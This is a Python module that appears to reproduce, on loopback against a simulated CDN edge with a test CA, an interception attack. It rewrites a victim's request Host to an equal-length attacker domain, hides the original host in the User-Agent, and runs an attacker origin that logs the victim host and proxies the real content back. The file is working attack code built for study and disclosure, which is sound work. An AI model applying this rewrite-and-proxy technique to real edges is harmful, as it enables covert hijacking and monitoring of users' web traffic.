"""Local reproduction of the Host-rewrite interception chain.

An in-process "intercept" rewrites the victim's plaintext request just
before it would be encrypted: the Host is swapped for an attacker-owned
name of the same length, and the original Host overwrites the leading bytes
of the User-Agent value so the request length never changes.  A permissive
edge routes the request to the attacker's origin, which recovers the
original host from the User-Agent, logs it, and fetches the victim's real
content back through the edge.

Everything runs on loopback against the simulator.
"""

from __future__ import annotations

import http.client
import http.server
import re
import socket
import ssl
import threading
from dataclasses import asdict, dataclass, field

from .ca import TestCA
from .edge import Edge, EdgePolicy, OriginBinding, origin_body, start_edge

LABEL_LEN = 14
VICTIM_UA = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"


class DemoRefused(ValueError):
    """The rewrite would change the request length, or the request does not match."""


def host_pattern(zone: str) -> re.Pattern[bytes]:
    return re.compile(rb"Host: ([a-z0-9]{%d})[.]%s\r\n" % (LABEL_LEN, re.escape(zone.encode())))


def rewrite_request(raw: bytes, zone: str, attacker_host: str) -> bytes:
    """Swap the Host for *attacker_host* and smuggle the original Host into the User-Agent prefix."""
    m = host_pattern(zone).search(raw)
    if m is None:
        raise DemoRefused("request Host does not match the interception pattern")
    original = m.group(1) + b"." + zone.encode()
    attacker = attacker_host.encode()
    if len(attacker) != len(original):
        raise DemoRefused(f"attacker host length {len(attacker)} != victim host length {len(original)}")
    out = raw[:m.start(1)] + attacker + raw[m.start(1) + len(original):]
    ua = re.search(rb"\r\nUser-Agent: ([^\r]*)\r\n", out)
    if ua is None or len(ua.group(1)) < len(original):
        raise DemoRefused("no User-Agent long enough to carry the original host")
    start = ua.start(1)
    out = out[:start] + original + out[start + len(original):]
    assert len(out) == len(raw)
    return out


def _header(raw: bytes, name: str) -> str | None:
    m = re.search(rb"\r\n" + name.encode() + rb": ([^\r]*)\r\n", raw)
    return m.group(1).decode("latin-1") if m else None


class AttackerOrigin:
    """Plain-HTTP origin that proxies each request to the host named in its User-Agent prefix."""

    def __init__(self, zone: str, ca_file: str, host: str = "127.0.0.1", port: int = 0):
        self.zone = zone
        self.log: list[str] = []
        self.edge_address: tuple[str, int] | None = None
        self._ua_pattern = re.compile(r"^([a-z0-9]{%d}\.%s)" % (LABEL_LEN, re.escape(zone)))
        self._ctx = ssl.create_default_context(cafile=ca_file)
        self._ctx.set_alpn_protocols(["http/1.1"])
        origin = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                m = origin._ua_pattern.match(self.headers.get("User-Agent", ""))
                if m is None:
                    self._reply(404, b"nothing to see\n")
                    return
                victim = m.group(1)
                origin.log.append(victim)
                status, body = origin.fetch(victim, self.path)
                self._reply(status, body)

            def _reply(self, status, body):
                self.send_response_only(status)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self._server = http.server.ThreadingHTTPServer((host, port), Handler)
        self._server.daemon_threads = True
        self.address = self._server.server_address[:2]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def fetch(self, victim_host: str, path: str) -> tuple[int, bytes]:
        """Fetch the victim's intended content through the edge, as the victim would have."""
        if self.edge_address is None:
            return 502, b"no edge configured\n"
        with socket.create_connection(self.edge_address, timeout=10) as raw:
            with self._ctx.wrap_socket(raw, server_hostname=victim_host) as tls:
                tls.sendall(f"GET {path} HTTP/1.1\r\nHost: {victim_host}\r\nUser-Agent: {VICTIM_UA}\r\n"
                            f"Connection: close\r\n\r\n".encode())
                resp = http.client.HTTPResponse(tls, method="GET")
                resp.begin()
                return resp.status, resp.read()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class DemoTranscript:
    sni: str
    cert_subject: str | None
    host_before: str
    host_after: str
    ua_before: str
    ua_after: str
    attacker_log_host: str | None
    response_len: int
    status: int | None
    request_len_before: int
    request_len_after: int
    body_matches_intended: bool
    edge_endpoint: str
    honest: dict = field(default_factory=dict)
    error: str | None = None

    def to_json(self) -> dict:
        return asdict(self)


@dataclass
class _Exchange:
    cert_subject: str | None
    status: int | None
    body: bytes
    endpoint: str
    error: str | None = None


def _exchange(edge: Edge, sni: str, request: bytes, ca_file: str) -> _Exchange:
    ctx = ssl.create_default_context(cafile=ca_file)
    ctx.set_alpn_protocols(["http/1.1"])
    edge_address = edge.address
    # logical name plus host; the port is ephemeral and would break reproducible transcripts
    endpoint = f"{edge.name}@{edge_address[0]}"
    subject = None
    try:
        with socket.create_connection(edge_address, timeout=10) as raw:
            with ctx.wrap_socket(raw, server_hostname=sni) as tls:
                cert = tls.getpeercert()
                subject = next((v for rdn in cert.get("subject", ()) for k, v in rdn if k == "commonName"), None)
                tls.sendall(request)
                resp = http.client.HTTPResponse(tls, method="GET")
                resp.begin()
                return _Exchange(subject, resp.status, resp.read(), endpoint)
    except (OSError, ssl.SSLError) as exc:
        return _Exchange(subject, None, b"", endpoint, f"{type(exc).__name__}: {exc}")


def host_rewrite_demo(victim_request: tuple[str, str, str], attacker_host: str, edge: Edge,
                      attacker_origin: AttackerOrigin, ca: TestCA, intended_body: bytes) -> DemoTranscript:
    """Run one honest and one intercepted request from the victim and record what each side saw."""
    sni, host, path = victim_request
    if len(attacker_host) != len(host):
        raise DemoRefused(f"attacker host {attacker_host!r} must have the same length as {host!r}")
    honest_req = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {VICTIM_UA}\r\n"
                  f"Accept: */*\r\nConnection: close\r\n\r\n").encode()
    rewritten = rewrite_request(honest_req, attacker_origin.zone, attacker_host)
    ca_file = str(ca.cert_path)
    honest = _exchange(edge, sni, honest_req, ca_file)
    seen = len(attacker_origin.log)
    attacked = _exchange(edge, sni, rewritten, ca_file)
    recovered = attacker_origin.log[seen] if len(attacker_origin.log) > seen else None
    return DemoTranscript(
        sni=sni,
        cert_subject=attacked.cert_subject,
        host_before=host,
        host_after=_header(rewritten, "Host") or "",
        ua_before=_header(honest_req, "User-Agent") or "",
        ua_after=_header(rewritten, "User-Agent") or "",
        attacker_log_host=recovered,
        response_len=len(attacked.body),
        status=attacked.status,
        request_len_before=len(honest_req),
        request_len_after=len(rewritten),
        body_matches_intended=attacked.status == 200 and attacked.body == intended_body,
        edge_endpoint=attacked.endpoint,
        honest={"sni": sni, "cert_subject": honest.cert_subject, "edge_endpoint": honest.endpoint,
                "status": honest.status, "response_len": len(honest.body)},
        error=attacked.error,
    )


@dataclass
class DemoEnvironment:
    edge: Edge
    origin: AttackerOrigin
    ca: TestCA
    victim_host: str
    attacker_host: str
    victim_body: bytes

    def run(self, path: str = "/") -> DemoTranscript:
        return host_rewrite_demo((self.victim_host, self.victim_host, path), self.attacker_host,
                                 self.edge, self.origin, self.ca, self.victim_body)

    def stop(self) -> None:
        self.edge.stop()
        self.origin.stop()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.stop()


def start_demo_environment(policy: EdgePolicy, zone: str = "sim.test", victim_label: str = "d0victim000000",
                           attacker_label: str = "d1attacker0000", extra_bindings: list[OriginBinding] = (),
                           ca: TestCA | None = None, body_size: int = 2048) -> DemoEnvironment:
    """Edge hosting the victim's site and an attacker distribution whose origin is the proxying server."""
    victim = f"{victim_label}.{zone}"
    attacker = f"{attacker_label}.{zone}"
    ca = ca or TestCA()
    origin = AttackerOrigin(zone, str(ca.cert_path))
    body = origin_body(victim, body_size)
    bindings = [OriginBinding(victim, body), OriginBinding(attacker, upstream=origin.address)]
    bindings += [b for b in extra_bindings if b.domain not in (victim, attacker)]
    try:
        edge = start_edge(policy, bindings, ca, name="demo-edge")
    except Exception:
        origin.stop()
        raise
    origin.edge_address = edge.address
    return DemoEnvironment(edge, origin, ca, victim, attacker, body)
